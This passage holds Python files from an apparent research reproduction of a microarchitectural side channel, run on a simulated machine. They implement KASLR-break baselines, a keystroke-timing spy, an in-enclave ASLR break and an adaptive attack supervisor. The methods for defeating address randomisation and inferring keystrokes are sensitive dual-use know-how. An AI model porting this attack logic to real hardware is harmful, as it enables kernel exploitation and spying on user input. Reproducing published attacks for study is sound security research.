    for sample in samples:
        truth = truth_fn(sample.t_seconds)
        if sample.active and truth:
            tp += 1
        elif sample.active and not truth:
            fp += 1
        elif not sample.active and not truth:
            tn += 1
        else:
            fn += 1
    total = tp + fp + tn + fn
    accuracy = (tp + tn) / total if total else 1.0
    precision = tp / (tp + fp) if tp + fp else 1.0
    recall = tp / (tp + fn) if tp + fn else 1.0
    return accuracy, precision, recall
