"""Prior-art KASLR breaks, for comparison against the AVX attack.

The paper's introduction positions its channel against the known
micro-architectural KASLR breaks: prefetch timing (Gruss et al., CCS'16)
"depends on ... cache eviction" and noise filtering, and the TSX-based
DrK (Jang et al., CCS'16) needs Intel TSX -- which recent parts no
longer ship.  These baselines make that comparison measurable:

* :func:`break_kaslr_prefetch` -- double-probe with PREFETCHT0 timing.
  Prefetch hints are silently dropped a large fraction of the time, so
  the attack needs many more rounds (its noise filtering) and still
  trails the AVX attack's reliability.
* :func:`break_kaslr_tsx` -- DrK-style abort-timing probe.  Fails
  outright (ConfigError) on TSX-less parts: every desktop CPU since
  2021, including the paper's Meltdown-resistant i5-12400F testbed.
"""

import statistics

from repro.attacks.kaslr_break import KaslrBreakResult
from repro.errors import ConfigError
from repro.os.linux import layout


def _double_probe(probe, va, rounds, drop_cutoff=None):
    """Warm + timed probe pairs; returns the mean of the timed samples.

    ``drop_cutoff`` is the prefetch baseline's noise filter: samples at
    or below it are silently-dropped hints carrying no translation signal
    and are discarded (exactly the filtering step the paper says prior
    attacks depend on).
    """
    samples = []
    for _ in range(rounds):
        probe(va)
        samples.append(probe(va))
    if drop_cutoff is not None:
        kept = [s for s in samples if s > drop_cutoff]
        if kept:
            samples = kept
    return sum(samples) / len(samples)


def _scan_and_classify(machine, probe, rounds, method, drop_cutoff=None):
    """Shared scan loop: probe all slots, split the bimodal timings."""
    core = machine.core
    total_start = core.clock.cycles
    core.run_setup()

    probe_start = core.clock.cycles
    timings = []
    for slot in range(layout.KERNEL_TEXT_SLOTS):
        va = layout.kernel_base_of_slot(slot)
        timings.append(_double_probe(probe, va, rounds, drop_cutoff))
    probing_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(probe_start)
    )

    # no store-identity shortcut exists for these probes: threshold from
    # the scan's own distribution (Otsu), the classic approach.  The
    # heavy trim is part of the baselines' noise filtering: their spike
    # tail would otherwise out-weigh the small mapped class.
    from repro.analysis.thresholds import otsu

    threshold = otsu(timings, trim=0.08)
    mapped = [s for s, t in enumerate(timings) if t <= threshold]
    base, slot = None, None
    if mapped and len(mapped) < layout.KERNEL_TEXT_SLOTS // 2:
        slot = mapped[0]
        base = layout.kernel_base_of_slot(slot)
    total_ms = core.clock.cycles_to_ms(core.clock.elapsed_since(total_start))
    return KaslrBreakResult(
        base, slot, timings, threshold, probing_ms, total_ms, mapped,
        method=method,
    )


def break_kaslr_prefetch(machine, rounds=32):
    """The prefetch-timing baseline (Gruss et al. style).

    Dropped hints dilute the per-slot mean (they cannot be filtered
    reliably: a dropped hint retires within a few cycles of a TLB-hit
    prefetch), so the attack averages far more rounds than the AVX
    attack's 2 -- its "noise filtering" -- and still trails it.
    """
    return _scan_and_classify(
        machine, machine.core.timed_prefetch, rounds, method="prefetch"
    )


def break_kaslr_tsx(machine, rounds=2):
    """The DrK baseline: TSX abort timing.

    Raises :class:`~repro.errors.ConfigError` on parts without TSX.
    """
    if not machine.cpu.supports_tsx:
        raise ConfigError(
            "{} has no (enabled) TSX; DrK cannot run -- the AVX attack "
            "has no such requirement".format(machine.cpu.name)
        )
    return _scan_and_classify(
        machine, machine.core.tsx_probe, rounds, method="tsx"
    )


def compare_with_baselines(machine_factory, seed=0, trials=4):
    """Head-to-head: AVX P2 vs prefetch vs TSX on the same boots.

    Returns {method: {"wins": int, "trials": int, "probing_ms": mean,
    "available": bool}}.
    """
    from repro.attacks.kaslr_break import break_kaslr_intel

    contenders = {
        "avx (this paper)": lambda m: break_kaslr_intel(m),
        "prefetch (Gruss et al.)": break_kaslr_prefetch,
        "tsx / DrK (Jang et al.)": break_kaslr_tsx,
    }
    report = {}
    for name, attack in contenders.items():
        wins = 0
        runtimes = []
        available = True
        for i in range(trials):
            machine = machine_factory(seed + i)
            try:
                result = attack(machine)
            except ConfigError:
                available = False
                break
            wins += result.base == machine.kernel.base
            runtimes.append(result.probing_ms)
        report[name] = {
            "available": available,
            "wins": wins,
            "trials": trials if available else 0,
            "probing_ms": statistics.mean(runtimes) if runtimes else None,
        }
    return report
