"""Keystroke-timing inference (the paper's suggested extension).

Section IV-E closes with "our attack will likely be extended not only to
monitor other events (e.g., keystroke)".  Keystrokes need much finer
sampling than the 1 Hz module spy: the spy polls the input driver's pages
every few milliseconds; a TLB hit in a polling window means a key event
was processed during it.  Recovered inter-keystroke intervals are the
classic input for password/text inference models.
"""

from repro.mmu.address import PAGE_SIZE


class KeystrokeTrace:
    """Spy output: detected event times vs the ground truth schedule."""

    __slots__ = ("detected", "truth", "interval_s")

    def __init__(self, detected, truth, interval_s):
        self.detected = list(detected)
        self.truth = list(truth)
        self.interval_s = interval_s

    def matched(self, tolerance=None):
        """Pair each true keystroke with a detection within tolerance."""
        if tolerance is None:
            tolerance = self.interval_s
        pairs = []
        unclaimed = list(self.detected)
        for t in self.truth:
            best = None
            for d in unclaimed:
                if abs(d - t) <= tolerance and (
                    best is None or abs(d - t) < abs(best - t)
                ):
                    best = d
            if best is not None:
                unclaimed.remove(best)
                pairs.append((t, best))
        return pairs

    def recall(self, tolerance=None):
        if not self.truth:
            return 1.0
        return len(self.matched(tolerance)) / len(self.truth)

    def false_detections(self, tolerance=None):
        if tolerance is None:
            tolerance = self.interval_s
        claimed = {d for __, d in self.matched(tolerance)}
        return [d for d in self.detected if d not in claimed]

    def inter_key_intervals(self):
        """Recovered inter-keystroke intervals (the inference payload)."""
        ordered = sorted(self.detected)
        return [b - a for a, b in zip(ordered, ordered[1:])]


class KeystrokeSpy:
    """High-rate TLB spy on the input driver's pages."""

    def __init__(self, machine, module="hid", probe_pages=4,
                 hit_threshold=None):
        self.machine = machine
        self.core = machine.core
        cpu = machine.cpu
        if hit_threshold is None:
            hit_threshold = (
                cpu.expected_kernel_mapped_load_tlb_hit()
                + cpu.measurement_overhead + 8
            )
        self.hit_threshold = hit_threshold
        self.module = module
        self.base = machine.kernel.module_map[module][0]
        self.probe_pages = probe_pages

    def run(self, keystroke_times, duration_s, interval_s=0.005):
        """Poll at ``interval_s`` while the victim types at the given
        times; returns a :class:`KeystrokeTrace`."""
        core = self.core
        kernel = self.machine.kernel
        interval_cycles = int(
            interval_s * self.machine.cpu.freq_ghz * 1e9
        )
        pending = sorted(keystroke_times)
        detected = []
        t = 0.0
        while t < duration_s:
            core.evict_translation_caches()
            # keystrokes that land inside this window drive the driver
            while pending and pending[0] < t + interval_s:
                kernel.touch_module(core, self.module, self.probe_pages)
                pending.pop(0)
            core.clock.advance(interval_cycles)
            hits = 0
            for i in range(self.probe_pages):
                measured = core.timed_masked_load(
                    self.base + i * PAGE_SIZE
                )
                if measured <= self.hit_threshold:
                    hits += 1
            if hits >= (self.probe_pages + 1) // 2:
                detected.append(t + interval_s)
            t += interval_s
        return KeystrokeTrace(detected, sorted(keystroke_times), interval_s)
