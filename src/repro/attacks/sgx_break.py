"""Fine-grained ASLR break from inside an SGX enclave (Section IV-F).

The enclave is the *attacker's* vantage point: enclave code cannot read
``/proc/self/maps``, so to stage a code-reuse attack against its host it
derandomizes the host process's layout with the AVX probe (masked ops
inside the enclave still translate through the host page tables).  SGX2
provides the RDTSC the measurements need; the paper reports 51 s for the
masked-load scan and 44 s for the masked-store scan of the 28-bit code
region on an i7-1065G7.
"""

from repro.attacks.userspace import (
    find_user_code_base,
    identify_libraries,
    scan_rw_pages,
)
from repro.errors import AttackError


class SgxBreakResult:
    """Outcome of the in-enclave derandomization."""

    __slots__ = ("code_base", "rw_pages", "load_seconds", "store_seconds",
                 "libraries")

    def __init__(self, code_base, rw_pages, load_seconds, store_seconds,
                 libraries):
        self.code_base = code_base
        self.rw_pages = rw_pages
        self.load_seconds = load_seconds
        self.store_seconds = store_seconds
        self.libraries = libraries

    def __repr__(self):
        return (
            "SgxBreakResult(code_base={}, load {:.0f}s / store {:.0f}s)"
            .format(
                hex(self.code_base) if self.code_base else None,
                self.load_seconds, self.store_seconds,
            )
        )


def break_aslr_from_enclave(machine, rounds=2, identify=True):
    """Run the full in-enclave attack: code base scan + library scan."""
    if machine.enclave is None:
        raise AttackError(
            "no enclave on this machine; call machine.create_enclave() first"
        )
    machine.enclave.require_timer()

    # pass 1 (masked load): filter out unmapped pages, find the code base
    load_scan = find_user_code_base(machine, rounds=rounds)
    # pass 2 (masked store): flag the read-write pages (faster per probe)
    store_scan = scan_rw_pages(machine, rounds=rounds)

    libraries = identify_libraries(machine) if identify else None
    return SgxBreakResult(
        code_base=load_scan.base,
        rw_pages=store_scan.mapped_runs,
        load_seconds=load_scan.probing_seconds,
        store_seconds=store_scan.probing_seconds,
        libraries=libraries,
    )
