"""Adaptive attack supervision: retries, re-probing, confidence, verdicts.

The raw attacks are open-loop: one calibration, one sweep, a bare result.
On a lab-quiet machine that is enough; under the disturbance runtime
(:mod:`repro.chaos`) it is not -- a DVFS step between calibration and
sweep silently mis-classifies every slot, a mid-scan re-randomization
makes the whole sweep describe a layout that no longer exists.

The :class:`AttackSupervisor` closes the loop around every attack:

* **calibration sanity check** -- a fresh calibration is rejected (and
  retried) when its spread or location is implausible
  (:class:`~repro.errors.CalibrationError`);
* **drift detection** -- after probing, the calibration page is
  re-measured; if the store mode moved (a frequency transition landed
  mid-attack), the attempt is discarded and re-run with a fresh
  calibration;
* **ambiguous-slot re-probing** -- slots whose timing sits within a
  margin of the decision threshold are re-measured with escalating
  rounds before classification is final;
* **re-randomization aborts** -- if the chaos log shows the kernel moved
  mid-attempt, the attempt raises
  :class:`~repro.errors.DisturbanceAbort` and is retried;
* **budgets + backoff** -- a probe budget and a time budget bound the
  total work (:class:`~repro.errors.ProbeBudgetExceeded`); retries back
  off exponentially in simulated time, letting transients pass;
* **verdicts** -- every run returns a :class:`Verdict`
  (``found`` / ``abstain`` / ``failed``) with a confidence score, the
  retry count, per-attempt records, and the disturbance log -- never an
  unhandled disturbance exception.

All supervisor-side measurements (drift checks, re-probes) run through
the scalar per-op path regardless of the attack's ``batched`` flag, so
the supervised control flow advances the simulated clock identically in
both modes and the chaos schedule stays mode-agnostic.
"""

from repro.attacks.calibrate import calibrate_store_threshold, robust_stats
from repro.attacks.primitives import double_probe_load
from repro.errors import (
    AttackError,
    CalibrationError,
    DisturbanceAbort,
    ProbeBudgetExceeded,
)
from repro.os.linux import layout

#: verdict statuses
FOUND = "found"
ABSTAIN = "abstain"
FAILED = "failed"

#: confidence at or above which a non-None value is reported as FOUND
FOUND_CONFIDENCE = 0.5

#: base simulated-cycle pause before a retry (doubles per retry)
BACKOFF_BASE_CYCLES = 40_000

#: |timing - threshold| at or below this marks a slot ambiguous
AMBIGUITY_MARGIN_CYCLES = 6.0

#: absolute drift (cycles) always tolerated between calibration and
#: post-attack re-measurement, on top of the sigma-scaled slack
DRIFT_SLACK_CYCLES = 10.0

#: confidence multiplier applied when a verdict is degraded instead of
#: dropped (deadline exhaustion, late completion under a campaign)
DEGRADE_FACTOR = 0.5


def apply_degradation(status, confidence, factor=DEGRADE_FACTOR):
    """The degradation rule shared by verdicts and scenario results.

    A budget- or deadline-compromised outcome keeps its value but loses
    trust: the confidence is scaled down by ``factor`` and a ``found``
    status that no longer clears the reporting bar becomes ``abstain``.
    Returns the downgraded ``(status, confidence)``.
    """
    confidence = confidence * factor
    if status == FOUND and confidence < FOUND_CONFIDENCE:
        status = ABSTAIN
    return status, confidence


class AttemptRecord:
    """What happened during one supervised attempt."""

    __slots__ = ("index", "outcome", "detail", "disturbances")

    def __init__(self, index, outcome, detail="", disturbances=0):
        self.index = index
        #: "ok", "calibration-rejected", "drift", "rerandomized",
        #: "budget-exceeded" or "error"
        self.outcome = outcome
        self.detail = detail
        self.disturbances = disturbances

    def as_dict(self):
        return {
            "index": self.index,
            "outcome": self.outcome,
            "detail": self.detail,
            "disturbances": self.disturbances,
        }


class Verdict:
    """Structured outcome of a supervised attack."""

    __slots__ = (
        "attack",
        "status",
        "value",
        "result",
        "confidence",
        "retries",
        "attempts",
        "disturbances",
        "probes_spent",
        "elapsed_ms",
        "degraded",
    )

    def __init__(self, attack, status, value, result, confidence, retries,
                 attempts, disturbances, probes_spent, elapsed_ms,
                 degraded=None):
        self.attack = attack
        self.status = status
        #: the attack's headline answer (kernel base, module dict, ...)
        self.value = value
        #: the raw attack result object of the final attempt (or None)
        self.result = result
        self.confidence = confidence
        self.retries = retries
        self.attempts = attempts
        #: disturbance log covering the whole supervised run
        self.disturbances = disturbances
        self.probes_spent = probes_spent
        self.elapsed_ms = elapsed_ms
        #: degradation reason ("deadline", "budget", ...) or None
        self.degraded = degraded

    @property
    def found(self):
        return self.status == FOUND

    def degrade(self, reason, factor=DEGRADE_FACTOR):
        """Downgrade this verdict in place instead of dropping it."""
        self.degraded = reason
        self.status, self.confidence = apply_degradation(
            self.status, self.confidence, factor
        )
        return self

    def as_dict(self):
        value = self.value
        if isinstance(value, int) and not isinstance(value, bool):
            value = hex(value)
        return {
            "attack": self.attack,
            "status": self.status,
            "value": value,
            "confidence": round(self.confidence, 4),
            "retries": self.retries,
            "attempts": [a.as_dict() for a in self.attempts],
            "disturbances": self.disturbances,
            "probes_spent": self.probes_spent,
            "elapsed_ms": round(self.elapsed_ms, 3),
            "degraded": self.degraded,
        }

    def __repr__(self):
        return "Verdict({!r}, {}, confidence={:.2f}, retries={})".format(
            self.attack, self.status, self.confidence, self.retries
        )


class AttackSupervisor:
    """Run attacks with feedback, retries and structured verdicts."""

    def __init__(self, machine, max_retries=3, probe_budget=None,
                 time_budget_ms=None, batched=True):
        self.machine = machine
        self.core = machine.core
        self.max_retries = max_retries
        self.probe_budget = probe_budget
        self.time_budget_ms = time_budget_ms
        self.batched = batched
        self.probes_spent = 0
        self._start_cycles = None

    # -- bookkeeping ----------------------------------------------------------

    def charge_probes(self, count):
        """Account for ``count`` probes; raise once over budget."""
        self.probes_spent += count
        if self.probe_budget is not None \
                and self.probes_spent > self.probe_budget:
            raise ProbeBudgetExceeded(
                "probe budget of {} exhausted ({} spent)".format(
                    self.probe_budget, self.probes_spent
                ),
                probes_spent=self.probes_spent,
                elapsed_ms=self._elapsed_ms(),
            )

    def _elapsed_ms(self):
        if self._start_cycles is None:
            return 0.0
        return self.machine.clock.cycles_to_ms(
            self.machine.clock.elapsed_since(self._start_cycles)
        )

    def _check_time_budget(self):
        if self.time_budget_ms is not None \
                and self._elapsed_ms() > self.time_budget_ms:
            raise ProbeBudgetExceeded(
                "time budget of {} ms exhausted".format(self.time_budget_ms),
                probes_spent=self.probes_spent,
                elapsed_ms=self._elapsed_ms(),
            )

    # -- calibration with feedback --------------------------------------------

    def checked_calibration(self, samples=600):
        """Calibrate and sanity-check the decision boundary.

        The masked-store mode is analytically pinned (store base + TLB
        hit + A/D assist, all DVFS-scaled together), so a calibration
        whose spread is far beyond the noise floor, or whose mean sits
        outside any plausible frequency scaling of that mode, can only
        be a disturbed measurement -- reject it instead of classifying
        a whole sweep against it.
        """
        core = self.core
        cpu = self.machine.cpu
        with core.obs.span("calibrate", samples=samples) as span:
            calibration = calibrate_store_threshold(
                self.machine, samples=samples, batched=self.batched
            )
            self.charge_probes(samples)
            std_ceiling = max(6.0 * core.noise.sigma,
                              core.timer_resolution, 12.0)
            expected = cpu.store_base + cpu.tlb_hit_l1 + cpu.assist_dirty
            lo = (cpu.measurement_overhead + 0.4 * expected
                  - core.timer_resolution)
            hi = cpu.measurement_overhead + 2.5 * expected
            span.set(mean=calibration.mean, std=calibration.std,
                     threshold=calibration.threshold)
            if calibration.std > std_ceiling:
                raise CalibrationError(
                    "calibration spread {:.1f} exceeds ceiling {:.1f}".format(
                        calibration.std, std_ceiling
                    )
                )
            if not lo <= calibration.mean <= hi:
                raise CalibrationError(
                    "calibration mean {:.1f} outside plausible range "
                    "[{:.1f}, {:.1f}]".format(calibration.mean, lo, hi)
                )
        return calibration

    def check_drift(self, calibration, samples=24):
        """Re-measure the calibration page; raise on a moved store mode.

        Runs per-op in both modes (identical simulated-clock cost).  A
        significant shift means the timing regime changed *after*
        calibration -- typically a DVFS transition -- so every
        classification made against the stale threshold is suspect.
        """
        core = self.core
        with core.obs.span("drift-check", samples=samples) as span:
            core.chaos_poll()
            page = self.machine.playground.user_rw
            values = [core.timed_masked_store(page) for _ in range(samples)]
            self.charge_probes(samples)
            median, __, __ = robust_stats(values)
            slack = max(
                4.0 * max(calibration.std, 1.0) + DRIFT_SLACK_CYCLES,
                core.timer_resolution,
            )
            drift = abs(median - calibration.mean)
            span.set(drift=drift, slack=slack)
            if drift > slack:
                raise CalibrationError(
                    "store mode drifted {:.1f} cycles since calibration "
                    "(slack {:.1f})".format(drift, slack)
                )

    def _layout_generation(self):
        chaos = self.machine.chaos
        return chaos.layout_generation if chaos is not None else 0

    def _check_layout_stable(self, generation_before):
        if self._layout_generation() != generation_before:
            raise DisturbanceAbort(
                "kernel layout re-randomized mid-attempt; measurements "
                "describe a stale layout"
            )

    # -- ambiguous-slot re-probing -------------------------------------------

    def reprobe_ambiguous(self, vas_timings, calibration, base_rounds,
                          margin=AMBIGUITY_MARGIN_CYCLES, escalations=2):
        """Re-measure timings too close to the threshold to trust.

        ``vas_timings`` is a list of (va, timing).  Each ambiguous entry
        is re-probed per-op with doubled rounds per escalation until it
        clears the margin (or escalations run out; the last measurement
        then stands).  Returns the corrected timings list and the number
        of re-probed slots.
        """
        threshold = calibration.threshold
        corrected = []
        reprobed = 0
        for va, timing in vas_timings:
            if abs(timing - threshold) > margin:
                corrected.append(timing)
                continue
            reprobed += 1
            rounds = base_rounds
            for _ in range(escalations):
                rounds *= 2
                self.charge_probes(rounds)
                timing = double_probe_load(self.core, va, rounds)
                if abs(timing - threshold) > margin:
                    break
            corrected.append(timing)
        obs = self.core.obs
        if obs.enabled and reprobed:
            obs.metrics.inc("supervisor.reprobes", reprobed)
        return corrected, reprobed

    # -- the supervision loop -------------------------------------------------

    def run(self, attack, **kwargs):
        """Supervise one attack end to end; always returns a Verdict."""
        try:
            runner = _RUNNERS[attack]
        except KeyError:
            raise AttackError(
                "unknown attack {!r}; known: {}".format(
                    attack, ", ".join(sorted(_RUNNERS))
                )
            )
        chaos = self.machine.chaos
        obs = self.core.obs
        self._start_cycles = self.core.clock.cycles
        self.probes_spent = 0
        start_mark = chaos.mark() if chaos is not None else 0

        attempts = []
        value, result, confidence = None, None, 0.0
        status = FAILED
        with obs.span("supervised-attack", attack=attack):
            for attempt in range(self.max_retries + 1):
                mark = chaos.mark() if chaos is not None else 0
                generation = self._layout_generation()
                value, result, confidence = None, None, 0.0
                with obs.span("attempt", index=attempt) as attempt_span:
                    try:
                        self._check_time_budget()
                        value, result, confidence = runner(self, **kwargs)
                        self._check_layout_stable(generation)
                    except CalibrationError as exc:
                        attempts.append(self._record(
                            attempt, "calibration-rejected", exc, chaos, mark
                        ))
                        attempt_span.set(outcome="calibration-rejected")
                        obs.event("retry", attempt=attempt,
                                  outcome="calibration-rejected",
                                  detail=str(exc))
                        if obs.enabled:
                            obs.metrics.inc("supervisor.retries")
                        self._backoff(attempt)
                        continue
                    except DisturbanceAbort as exc:
                        attempts.append(self._record(
                            attempt, "rerandomized", exc, chaos, mark
                        ))
                        attempt_span.set(outcome="rerandomized")
                        obs.event("retry", attempt=attempt,
                                  outcome="rerandomized", detail=str(exc))
                        if obs.enabled:
                            obs.metrics.inc("supervisor.retries")
                        self._backoff(attempt)
                        continue
                    except ProbeBudgetExceeded as exc:
                        attempts.append(self._record(
                            attempt, "budget-exceeded", exc, chaos, mark
                        ))
                        attempt_span.set(outcome="budget-exceeded")
                        break
                    except AttackError as exc:
                        attempts.append(self._record(
                            attempt, "error", exc, chaos, mark
                        ))
                        attempt_span.set(outcome="error")
                        break
                    attempts.append(self._record(
                        attempt, "ok", "", chaos, mark
                    ))
                    attempt_span.set(outcome="ok")
                    if value is not None and confidence >= FOUND_CONFIDENCE:
                        status = FOUND
                    else:
                        status = ABSTAIN
                    break

        retries = max(0, len(attempts) - 1)
        disturbances = (
            [e.as_dict() for e in chaos.events_since(start_mark)]
            if chaos is not None else []
        )
        verdict = Verdict(
            attack=attack,
            status=status,
            value=value,
            result=result,
            confidence=confidence if status != FAILED else 0.0,
            retries=retries,
            attempts=attempts,
            disturbances=disturbances,
            probes_spent=self.probes_spent,
            elapsed_ms=self._elapsed_ms(),
        )
        if obs.enabled:
            obs.event(
                "verdict", attack=attack, status=verdict.status,
                value=(hex(value)
                       if isinstance(value, int)
                       and not isinstance(value, bool) else value),
                confidence=round(verdict.confidence, 4),
                retries=verdict.retries,
                probes_spent=verdict.probes_spent,
            )
        return verdict

    def _record(self, index, outcome, detail, chaos, mark):
        count = len(chaos.events_since(mark)) if chaos is not None else 0
        return AttemptRecord(index, outcome, str(detail), count)

    def _backoff(self, attempt):
        """Exponential simulated-time pause before the next attempt."""
        self.core.clock.advance(BACKOFF_BASE_CYCLES * (2 ** attempt))


# -- per-attack runners --------------------------------------------------------
#
# Each runner performs one *checked* attempt: calibrate (with sanity
# checks), run the raw attack under canary supervision, re-probe
# ambiguity, and return (value, raw_result, confidence).  Disturbance-
# triggered problems surface as CalibrationError / DisturbanceAbort,
# which the supervision loop converts into retries.


def _canary(sup, samples=16):
    """Quick re-measurement of the calibration store mode (per-op).

    The masked-store mode on the attacker's clean page scales with
    frequency exactly like the kernel-mapped-load mode does (the paper's
    calibration identity), so a handful of stores pins the *current*
    timing regime cheaply -- the anchor the chunked scan re-derives its
    threshold from.
    """
    core = sup.core
    core.chaos_poll()
    page = sup.machine.playground.user_rw
    values = [core.timed_masked_store(page) for _ in range(samples)]
    sup.charge_probes(samples)
    median, __, __ = robust_stats(values)
    return median


def _canary_slack(sup, calibration):
    return max(
        4.0 * max(calibration.std, 1.0) + 4.0,
        float(sup.core.timer_resolution),
    )


def supervised_scan(sup, vas, rounds, calibration, take_min=False,
                    chunk_size=64, max_chunk_retries=2):
    """Threshold scan with per-chunk canary tracking.

    Probes ``vas`` in chunks.  Before/after each chunk the canary pins
    the current store mode; a chunk whose canaries disagree (a DVFS
    transition or migration landed inside it) is re-probed under the
    settled regime -- up to ``max_chunk_retries`` times, after which the
    attempt is rejected with :class:`CalibrationError`.  Each timing is
    classified against a threshold re-anchored to its chunk's canary,
    which makes the scan immune to *between*-chunk regime changes
    entirely.

    Returns ``(timings, thresholds)`` (both per-VA lists).
    """
    core = sup.core
    obs = core.obs
    offset = calibration.threshold - calibration.mean
    slack = _canary_slack(sup, calibration)
    timings = []
    thresholds = []
    pre = _canary(sup)
    with obs.span("scan", vas=len(vas), rounds=rounds,
                  chunk_size=chunk_size):
        for start in range(0, len(vas), chunk_size):
            chunk = vas[start : start + chunk_size]
            index = start // chunk_size
            with obs.span("chunk", index=index, size=len(chunk)) as span:
                for attempt in range(max_chunk_retries + 1):
                    sup.charge_probes(len(chunk) * rounds)
                    if sup.batched:
                        chunk_t = list(core.probe_sweep(
                            chunk, rounds=rounds, op="load",
                            reduce="min" if take_min else "mean",
                        ))
                    else:
                        chunk_t = [
                            double_probe_load(
                                core, va, rounds, take_min=take_min
                            )
                            for va in chunk
                        ]
                    post = _canary(sup)
                    if abs(post - pre) <= slack:
                        break
                    # the regime moved during this chunk: its timings mix
                    # two regimes; settle on the new one and probe again
                    obs.event("chunk-regime-shift", chunk=index,
                              attempt=attempt, pre=pre, post=post)
                    if obs.enabled:
                        obs.metrics.inc("supervisor.chunk_retries")
                    pre = post
                else:
                    raise CalibrationError(
                        "store mode kept moving during the scan "
                        "(chunk at index {})".format(start)
                    )
                anchor = (pre + post) / 2.0
                span.set(attempts=attempt + 1)
                obs.event("threshold-reanchor", chunk=index, anchor=anchor,
                          threshold=anchor + offset)
                if obs.enabled:
                    obs.metrics.inc("supervisor.chunks")
                timings.extend(chunk_t)
                thresholds.extend([anchor + offset] * len(chunk))
                pre = post
    return timings, thresholds


def _first_run(slots):
    """Length of the leading contiguous run in a sorted slot list."""
    if not slots:
        return 0
    length = 1
    for previous, current in zip(slots, slots[1:]):
        if current == previous + 1:
            length += 1
        else:
            break
    return length


def _bitmap_confidence(mapped_slots, expected_len):
    """Confidence of a threshold scan from the shape of its positives.

    A clean break is one contiguous run of the expected length starting
    at the recovered base.  Coverage inside that window and purity
    against stray positives elsewhere both scale the score.
    """
    if not mapped_slots:
        return 0.0
    first = mapped_slots[0]
    in_window = sum(
        1 for s in mapped_slots if first <= s < first + expected_len
    )
    coverage = in_window / expected_len
    purity = in_window / len(mapped_slots)
    return max(0.0, min(1.0, coverage * (0.3 + 0.7 * purity)))


def _run_kaslr(sup, rounds=None, variant=None):
    """KASLR base recovery (Intel P2 / AMD P3 / KPTI trampoline)."""
    machine = sup.machine
    if rounds is None:
        rounds = machine.cpu.rounds_default

    if variant is None:
        if getattr(machine.kernel, "kpti", False):
            variant = "kpti"
        elif machine.cpu.fills_tlb_for_supervisor_user_probe:
            variant = "intel"
        else:
            variant = "amd"

    if variant == "amd":
        from repro.attacks.kaslr_break import break_kaslr_amd

        result = break_kaslr_amd(machine, rounds=rounds, batched=sup.batched)
        usable = layout.KERNEL_TEXT_SLOTS - layout.KERNEL_IMAGE_2M_PAGES
        sup.charge_probes(
            usable * len(layout.KERNEL_4K_PAGE_OFFSETS) * rounds
        )
        votes = result.timings
        if result.base is None:
            return None, result, 0.0
        ranked = sorted(votes, reverse=True)
        margin = (ranked[0] - ranked[1]) if len(ranked) > 1 else ranked[0]
        confidence = min(1.0, ranked[0] / len(layout.KERNEL_4K_PAGE_OFFSETS)) \
            * (0.5 + 0.5 * min(1.0, margin / 2.0))
        return result.base, result, confidence

    from repro.attacks.kaslr_break import KaslrBreakResult

    core = sup.core
    total_start = core.clock.cycles
    core.run_setup()
    calibration = sup.checked_calibration()
    expected_len = 1 if variant == "kpti" \
        else layout.KERNEL_IMAGE_2M_PAGES

    vas = [
        layout.kernel_base_of_slot(slot)
        for slot in range(layout.KERNEL_TEXT_SLOTS)
    ]
    probe_start = core.clock.cycles
    timings, thresholds = supervised_scan(sup, vas, rounds, calibration)
    probing_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(probe_start)
    )
    mapped_bits = [t <= thr for t, thr in zip(timings, thresholds)]

    # outlier rejection: an interrupt spike can only *add* cycles, so it
    # punches unmapped-looking holes into (or truncates the edges of)
    # the true mapped run.  Re-probe suspects per-op with escalated
    # rounds + min-filter against a freshly anchored threshold.
    obs = core.obs
    with obs.span("repair"):
        offset = calibration.threshold - calibration.mean
        thr_now = _canary(sup) + offset

        def reprobe(slot, why):
            sup.charge_probes(rounds * 2)
            timing = double_probe_load(
                core, vas[slot], rounds * 2, take_min=True
            )
            timings[slot] = timing
            if obs.enabled:
                obs.metrics.inc("supervisor.reprobes")
                obs.event("reprobe", slot=slot, why=why, timing=timing,
                          threshold=thr_now)
            return timing <= thr_now

        for slot in range(1, layout.KERNEL_TEXT_SLOTS - 1):
            if not mapped_bits[slot] and mapped_bits[slot - 1] \
                    and mapped_bits[slot + 1]:
                mapped_bits[slot] = reprobe(slot, "hole")
        # ambiguity: anything within the margin of its decision threshold
        for slot, (t, thr) in enumerate(zip(timings, thresholds)):
            if abs(t - thr) <= AMBIGUITY_MARGIN_CYCLES:
                mapped_bits[slot] = reprobe(slot, "ambiguous")

        mapped = [s for s, bit in enumerate(mapped_bits) if bit]
        # edge repair: extend the leading run downward while the slot
        # just before it re-probes mapped (a spike on the true first slot
        # would otherwise shift the recovered base)
        extensions = 0
        while mapped and mapped[0] > 0 and extensions < 4:
            if not reprobe(mapped[0] - 1, "edge"):
                break
            mapped.insert(0, mapped[0] - 1)
            extensions += 1

    base, slot = None, None
    if mapped:
        first = layout.kernel_base_of_slot(mapped[0])
        if variant == "kpti":
            first -= layout.KPTI_TRAMPOLINE_OFFSETS.get(
                machine.kernel.version, layout.DEFAULT_TRAMPOLINE_OFFSET
            )
        base = first
        slot = layout.kernel_slot_of(first)
    total_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(total_start)
    )
    result = KaslrBreakResult(
        base, slot, timings, calibration.threshold, probing_ms, total_ms,
        mapped, method="supervised-" + variant,
    )
    confidence = _bitmap_confidence(mapped, expected_len)
    return base, result, confidence


def _run_modules(sup, rounds=None, max_slots=None):
    """Module detection + size identification (canary-tracked scan)."""
    from repro.attacks.module_detect import (
        ModuleDetectionResult,
        DetectedRegion,
        _runs_from_bitmap,
    )
    from repro.mmu.address import PAGE_SIZE

    machine = sup.machine
    core = sup.core
    if rounds is None:
        rounds = machine.cpu.rounds_default
    if max_slots is None:
        max_slots = layout.MODULE_SLOTS

    total_start = core.clock.cycles
    core.run_setup()
    calibration = sup.checked_calibration()

    vas = [
        layout.MODULE_START + slot * PAGE_SIZE for slot in range(max_slots)
    ]
    probe_start = core.clock.cycles
    # min-filtered, as in the raw attack: a spike must not split a module
    timings, thresholds = supervised_scan(
        sup, vas, rounds, calibration, take_min=True, chunk_size=256
    )
    probing_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(probe_start)
    )
    mapped_flags = [t <= thr for t, thr in zip(timings, thresholds)]
    runs = _runs_from_bitmap(mapped_flags, layout.MODULE_START)

    size_to_names = {}
    for name, size_bytes in machine.kernel.proc_modules():
        pages = -(-size_bytes // PAGE_SIZE)
        size_to_names.setdefault(pages, []).append(name)

    regions, identified, ambiguous = [], {}, []
    for start, pages in runs:
        candidates = size_to_names.get(pages, [])
